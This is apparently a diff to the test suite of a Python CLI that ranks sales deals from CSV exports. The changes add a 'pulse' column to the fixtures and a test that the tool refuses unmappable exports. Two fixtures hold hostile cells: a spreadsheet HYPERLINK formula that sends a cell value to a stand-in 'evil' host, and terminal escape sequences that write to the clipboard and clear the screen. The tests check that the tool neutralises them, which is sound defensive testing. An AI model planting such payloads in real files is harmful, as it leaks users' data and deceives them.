@@ -195,7 +195,8 @@ def test_by_amount_weights_the_first_score_by_the_amount(tmp_path: Path) -> None
 def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_raw_keeps_them(tmp_path: Path) -> None:
     path = tmp_path / "evil.csv"
     path.write_text(
-        'deal,Notes,Amount\n"=HYPERLINK(""http://evil/?""&A1,""x"")",@SUM(A1),-500\n+cmd,"\tTab",12\n-minus,-3,7\n',
+        'deal,Notes,Amount,pulse\n"=HYPERLINK(""http://evil/?""&A1,""x"")",@SUM(A1),-500,7\n+cmd,"\tTab",12,7\n'
+        '-minus,-3,7,7\n',
         encoding="utf-8",
     )
     safe = rows_of(invoke("rank", path, "--format", "csv").stdout)
@@ -265,7 +266,7 @@ def test_explain_columns_says_what_feeds_what(salesforce: Path) -> None:
 def test_csv_on_a_terminal_shows_escape_sequences_instead_of_running_them(tmp_path: Path) -> None:
     pexpect = pytest.importorskip("pexpect")
     path = tmp_path / "esc.csv"
-    path.write_text('deal,Notes\n"Evil\x1b]52;c;SGVsbG8=\x07",\x1b[2J\u202e\n', encoding="utf-8")
+    path.write_text('deal,Notes,pulse\n"Evil\x1b]52;c;SGVsbG8=\x07",\x1b[2J\u202e,7\n', encoding="utf-8")
     child = pexpect.spawn(sys.executable, ["-m", "dealrescue", "rank", str(path), "-p", "pulse", "--format", "csv"],
                           encoding="utf-8", timeout=60)
     child.expect(pexpect.EOF)
@@ -289,3 +290,19 @@ def test_open_deals_rank_by_qualify_by_default_with_reasons_per_row(tmp_path: Pa
     assert {r["verdict"] for r in rows} <= {"qualified", "at_risk", "disqualify"}
     table = runner.invoke(app, ["rank", str(path), "--format", "table", "--top", "3"])
     assert table.stdout.splitlines()[0].startswith("Deal qualification (MEDDPICC): 30 ranked by qualification")
+
+
+def test_an_export_none_of_whose_columns_feeds_a_question_is_refused_not_ranked_all_alike(tmp_path: Path) -> None:
+    export = tmp_path / "hubspot-deals.csv"
+    export.write_text("Deal Name,Deal Stage,Amount,Close Date,Deal owner\nAcme,closedwon,12500,2026-12-01,Ann\n"
+                      "Beta,contractsent,8000,2027-01-15,Bob\n", encoding="utf-8")
+    refused = subprocess.run([*DEALRESCUE, "rank", str(export), "-p", "pulse"], capture_output=True, text=True, timeout=60)
+    assert refused.returncode == 2 and refused.stdout == ""
+    assert refused.stderr.splitlines()[0] == (
+        f"error: {export}: none of its columns feeds a question playbook pulse scores, so every row would get the same verdict")
+    explained = subprocess.run([*DEALRESCUE, "rank", str(export), "-p", "pulse", "--explain-columns"],
+                               capture_output=True, text=True, timeout=60)
+    assert explained.returncode == 0 and "'Deal Name': the deal name" in explained.stdout  # the way to see why
+    mapped = subprocess.run([*DEALRESCUE, "rank", str(export), "-p", "pulse", "--map", "Deal Stage=usage_trend", "--format", "csv"],
+                            capture_output=True, text=True, timeout=60)
+    assert mapped.returncode in (0, 2) and "none of its columns feeds" not in mapped.stderr
